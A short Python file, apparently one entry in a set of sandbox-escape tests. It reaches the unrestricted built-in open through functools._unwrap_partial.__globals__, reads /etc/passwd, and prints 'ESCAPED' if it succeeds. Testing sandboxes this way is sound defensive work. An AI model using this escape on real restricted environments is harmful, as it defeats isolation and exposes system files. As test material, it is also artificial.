# tries: what functools keeps beside what it gives
# class: modules
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def dig(space):
    print("REACHED")
    builtins = space["__builtins__"]
    return builtins["open"] if type(builtins) is dict else getattr(builtins, "open")


import functools

use(dig(functools._unwrap_partial.__globals__))
